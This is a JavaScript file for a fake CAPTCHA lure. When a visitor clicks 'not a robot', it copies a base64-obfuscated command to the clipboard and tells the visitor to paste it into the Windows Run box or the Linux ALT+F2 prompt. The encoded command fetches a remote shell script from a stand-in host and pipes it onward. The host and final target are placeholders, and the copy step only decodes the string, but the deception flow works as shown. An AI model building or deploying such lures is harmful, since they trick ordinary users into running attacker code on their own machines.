const isLinux = () => navigator.platform.toLowerCase().includes("linux") && !/android/i.test(navigator.userAgent);

const copyToClipboard = async (text) => {
  try {
    await navigator.clipboard.writeText(text);
    return true;
  } catch (error) {
    console.error("Failed to copy:", error);
    return false;
  }
};

const buildCommand = () => {
  const encoded = "Y3VybCAtcyBodHRwczovL3ByZXNzLXJlbGVhc2UuaW52YWxpZC9BQUFBLnNoIHwgUExBQ0VIT0xERVI=";
  return `echo '${encoded}' | base64 -d`;
};

const handleNotRobot = async () => {
  const target = isLinux() ? "linux.html" : "windows.html";
  const res = await fetch(`/instructions/${target}`);
  const container = document.getElementById("captcha-container");
  container.innerHTML = await res.text();
  const ok = await copyToClipboard(buildCommand());
  if (!ok) {
    container.querySelector(".retry").hidden = false;
    return;
  }
  container.querySelector(".keys").textContent = isLinux() ? "Press ALT + F2, then CTRL + V and ENTER to continue" : "Press WIN + R, then CTRL + V and ENTER to continue";
};

document.getElementById("not-a-robot").addEventListener("click", handleNotRobot);
document.addEventListener("click", (event) => {
  if (event.target.matches(".retry")) copyToClipboard(buildCommand());
});
